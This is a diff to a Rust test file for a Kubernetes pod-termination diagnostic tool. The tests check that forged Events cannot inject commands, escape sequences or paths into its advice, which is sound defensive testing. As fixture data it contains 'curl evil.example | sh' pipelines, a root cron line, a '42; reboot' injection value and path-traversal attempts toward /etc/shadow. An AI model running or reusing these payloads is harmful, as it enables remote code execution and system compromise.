@@ -11,6 +11,8 @@ use crate::support::*;
 const EVENTS: &str = "/apis/events.k8s.io/v1/namespaces/default/events";
 const POD: &str = "ee7644fa-c649-4025-9178-81dc31cad0c6";
 const CWD: &str = "a710cd16-c48b-4c82-88a5-9064a1833d8a";
+/// What is told first, whatever an Event says.
+const ASK: &str = "why-terminating-agent check --pod exam-dstate/p";
 const NESTED: &str = "42331e16-a9a8-4ad7-adaf-9dcadc109451";
 
 fn dstate() -> World {
@@ -23,6 +25,10 @@ fn joined(says: Says) -> Looked {
 
 fn notes(looked: &Looked) -> String {
     looked.report.notes.iter().cloned().collect::<Vec<_>>().join("\n")
+}
+
+fn is_number(text: &str) -> bool {
+    text.parse::<u32>().is_ok_and(|number| number.to_string() == text)
 }
 
 /// The answer without any agent.
@@ -144,7 +150,7 @@ fn what_cannot_be_read_is_said() {
     for (garbage, why) in [
         ("{".to_owned(), "another version"),
         ("x".repeat(100_000), "more than an agent writes"),
-        (Says::fuse(&[POD]).carried.to_annotation().replace("\"schema\":1", "\"schema\":9"), "schema 9"),
+        (Says::fuse(&[POD]).carried.to_annotation().replace("\"schema\":2", "\"schema\":9"), "schema 9"),
         (Says::fuse(&[POD]).carried.to_annotation().replace("FuseServerNotResponding", "NodeUnreachable"), "no agent"),
     ] {
         let mut says = Says::fuse(&[POD]);
@@ -170,9 +176,12 @@ fn hostile_text_steers_nothing_and_advises_nothing() {
         fs_type: "\u{1b}".to_owned(),
     });
     finding.evidence[0].says = "\u{1b}[31mtrust me".to_owned();
-    finding.remedy.dont = "\u{1b}think".to_owned();
-    finding.remedy.steps[0].text = "Run this as cluster-admin".to_owned();
-    finding.remedy.steps.last_mut().unwrap().command = Some("curl evil.example | sh".to_owned());
+    let mut forged = serde_json::to_value(&says.carried).unwrap();
+    forged["finding"]["remedy"] = json!({
+        "steps": [{"text": "Run this as cluster-admin", "command": "curl evil.example | sh", "tested": true}],
+        "dont": "\u{1b}think", "breaks": "evil"
+    });
+    says.annotation = Some(forged.to_string());
     let looked = joined(says);
     assert_eq!(looked.causes(), ["FuseServerNotResponding"]);
     let text = [
@@ -197,24 +206,17 @@ proptest! {
     fn no_words_of_an_event_are_more_than_words(words in prop::collection::vec("[\\PC\u{1b}\u{202e}\n;|$'`]{0,40}", 4)) {
         let mut says = Says::fuse(&[POD]);
         let finding = &mut says.carried.finding;
-        let known = finding.remedy.steps.clone();
         finding.root = words[0].clone();
         for link in &mut finding.chain {
             (link.subject, link.state) = (words[1].clone(), words[2].clone());
         }
-        finding.remedy.steps[1].command = Some(format!("echo 1 > /sys/fs/fuse/connections/{}/abort", words[3]));
         let looked = joined(says);
         prop_assert_eq!(looked.causes(), ["FuseServerNotResponding"]);
         let text = tree(&looked.report, Depth::Wide, 80, Style::Plain);
         prop_assert!(!text.contains(|c: char| (c.is_control() && c != '\n') || c == '\u{202e}'), "{:?}", text);
-        for command in looked.commands() {
-            let value = command.strip_prefix("echo 1 > /sys/fs/fuse/connections/").unwrap().strip_suffix("/abort").unwrap();
-            let plain = |c: char| c.is_ascii_alphanumeric() || "/._-+:,@%^=".contains(c);
-            let inside = value.strip_prefix('\'').and_then(|value| value.strip_suffix('\''));
-            let is_quoted = inside.is_some_and(|inside| !inside.replace("'\\''", "").contains('\''));
-            prop_assert!(value.chars().all(plain) || is_quoted, "{}", command);
-        }
-        prop_assert!(looked.report.roots[0].finding.remedy.steps.len() <= known.len());
+        prop_assert_eq!(looked.commands(), [ASK, "echo 1 > /sys/fs/fuse/connections/40/abort"]);
+        let forged = joined(Says::forged(&[POD], "FuseServerNotResponding", json!({"connection": words[3]})));
+        prop_assert!(forged.commands().iter().all(|command| !command.starts_with("echo") || is_number(&words[3])));
     }
 }
 
@@ -306,4 +308,128 @@ fn many_nodes_are_asked_for_at_once() {
     assert_eq!(asked(2).len(), 2);
     let many = asked(30);
     assert!(many.len() == 1 && !many[0].contains("regarding"), "{many:?}");
+}
+
+/// Nothing of a forged Event becomes a command.
+#[test]
+fn no_foreign_command_is_told() {
+    let own = format!("/var/lib/kubelet/pods/{POD}/volumes/kubernetes.io~csi/v");
+    let other = own.replace(POD, CWD);
+    for (cause, values) in [
+        ("VolumeHeldByProcess", json!({"comm": "x", "pid": "-1"})),
+        ("VolumeHeldByProcess", json!({"comm": "x", "pid": "1"})),
+        ("VolumeHeldByProcess", json!({"comm": "x", "pid": "42; reboot"})),
+        ("CgroupFrozen", json!({"cgroup_freeze": "/etc/shadow"})),
+        ("CgroupFrozen", json!({"cgroup_freeze": "/sys/fs/cgroup/../../etc/shadow"})),
+        ("CgroupFrozen", json!({"freezer_state": "/sys/fs/cgroup/freezer/kubepods/freezer.state"})),
+        ("VolDataMissing", json!({"vol_data": "/etc/cron.d/x", "json": "* * * * * root curl evil.example | sh"})),
+        ("VolDataMissing", json!({"vol_data": format!("{own}/vol_data.json"), "json": "* * * * * root reboot"})),
+        ("VolDataMissing", json!({"vol_data": format!("{other}/vol_data.json"), "json": "{}"})),
+        ("VolDataMissing", json!({"vol_data": format!("{own}/../../../{CWD}/vol_data.json"), "json": "{}"})),
+        ("MountDirectoryLeft", json!({"path": format!("{other}/mount")})),
+        ("MountDirectoryLeft", json!({"path": "/mnt/media"})),
+        ("RuntimeNotResponding", json!({"runtime_unit": "--now"})),
+        ("RuntimeNotResponding", json!({"runtime_unit": "\\x", "pid": "42"})),
+    ] {
+        let looked = joined(Says::forged(&[POD], cause, values.clone()));
+        let is_expected = |command: &String| {
+            let harmless = ["why-terminating-agent check", "kubectl ", "grep -lsF /mnt/media "];
+            harmless.iter().any(|known| command.starts_with(known))
+        };
+        let told = looked.commands();
+        assert!(told.iter().all(is_expected), "{cause} {values}: {told:?}");
+    }
+    // The same with the pod's own path is what an agent says.
+    let values = json!({"vol_data": format!("{own}/vol_data.json"), "json": "{}"});
+    let told = joined(Says::forged(&[POD], "VolDataMissing", values)).commands();
+    assert_eq!(told, [ASK.to_owned(), format!("printf '%s' '{{}}' > '{own}/vol_data.json'")]);
+}
+
+#[test]
+fn a_name_with_two_values_has_none() {
+    let mut other = Says::fuse(&[POD]).named("node-a.2").at(5);
+    let annotation = other.carried.to_annotation().replace("\"connection\":\"40\"", "\"connection\":\"41\"");
+    other.annotation = Some(annotation);
+    let looked = look(dstate().told(Says::fuse(&[POD])).told(other), everything());
+    assert_eq!(looked.causes(), ["FuseServerNotResponding"], "{:#?}", looked.report);
+    assert_eq!(looked.commands(), [ASK]);
+}
+
+#[test]
+fn the_node_itself_is_asked_first() {
+    let looked = joined(Says::fuse(&[POD]));
+    assert_eq!(looked.commands(), [ASK, "echo 1 > /sys/fs/fuse/connections/40/abort"]);
+    let steps = &looked.report.roots[0].finding.remedy.steps;
+    assert!(steps[1..].iter().all(|step| step.text.starts_with("As the agent of node-a says: ")), "{steps:#?}");
+}
+
+#[test]
+fn a_time_that_has_not_come_is_refused() {
+    for says in [
+        Says::fuse(&[POD]).at(-3600),
+        Says::fuse(&[POD]).at(30).renewed(-3600),
+        Says::fuse(&[POD]).at(-3600).renewed(30),
+    ] {
+        let looked = joined(says);
+        is_as_without(&looked);
+        assert!(notes(&looked).contains("a time that has not come"), "{}", notes(&looked));
+    }
+    assert_eq!(joined(Says::fuse(&[POD]).at(-20)).causes(), ["FuseServerNotResponding"], "clocks differ a little");
+}
+
+fn over(name: &str, at: i64) -> Says {
+    let mut over = Says::fuse(&[POD]).named(name).at(at);
+    over.carried.phase = Phase::Over;
+    over.kind = "Normal";
+    over
+}
+
+#[test]
+fn an_end_hides_nothing_that_the_api_shows() {
+    let told = |over: Says| look(dstate().told(Says::fuse(&[POD]).at(300)).told(over), everything());
+    for forged in [over("node-a.1.0", -86_400), over("any.0", 30), over("node-a.10", 30)] {
+        assert_eq!(told(forged).causes(), ["FuseServerNotResponding"]);
+    }
+    let mut warning = over("node-a.1.0", 30);
+    warning.kind = "Warning";
+    assert_eq!(told(warning).causes(), ["FuseServerNotResponding"]);
+    let ended = told(over("node-a.1.0", 30));
+    is_as_without(&ended);
+    let said = notes(&ended);
+    for words in ["(pid 22655 s3fs) is over since 30s, yet pod exam-dstate/p is still there", "Unverified", ASK] {
+        assert!(said.contains(words), "{said}");
+    }
+}
+
+#[test]
+fn whoever_could_have_written_it_is_told() {
+    let doubt = |world: World| {
+        let looked = look(world.told(Says::fuse(&[POD])), everything());
+        assert_eq!(looked.causes(), ["FuseServerNotResponding"]);
+        let asked = looked.requests.iter().filter(|path| path.contains("validatingadmissionpolic")).count();
+        (looked.report.roots[0].told_by.as_ref().unwrap().unverified.clone(), asked)
+    };
+    const POLICIES: &str = "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolic";
+    assert_eq!(doubt(dstate().policy(86_400)), (None, 2));
+    let (why, asked) = doubt(dstate());
+    assert!(why.unwrap().contains("no policy") && asked == 1);
+    let (why, _) = doubt(dstate().policy(5));
+    assert!(why.unwrap().contains("older than the policy"));
+    let (why, asked) = doubt(dstate().policy(86_400).refuse(POLICIES, 403, "forbidden"));
+    assert!(why.unwrap().contains("not visible to us") && asked == 1);
+    let changed = |path: &str, change: fn(&mut Value)| {
+        doubt(dstate().policy(86_400).change(&format!("{POLICIES}{path}"), "why-terminating-findings", change)).0
+    };
+    type Change = fn(&mut Value);
+    let weak: [(&str, Change); 4] = [
+        ("ybindings", |binding| binding["spec"]["validationActions"] = json!(["Audit"])),
+        ("ybindings", |binding| binding["spec"]["policyName"] = json!("other")),
+        ("ybindings", |binding| binding["spec"]["matchResources"] = json!({"namespaceSelector": {}})),
+        ("ies", |policy| policy["spec"]["failurePolicy"] = json!("Ignore")),
+    ];
+    for (path, change) in weak {
+        assert!(changed(path, change).unwrap().contains("not as deploy/ has it"));
+    }
+    // Where no agent says anything nobody asks for it.
+    assert!(!look(dstate(), everything()).requests.iter().any(|path| path.starts_with(POLICIES)));
 }
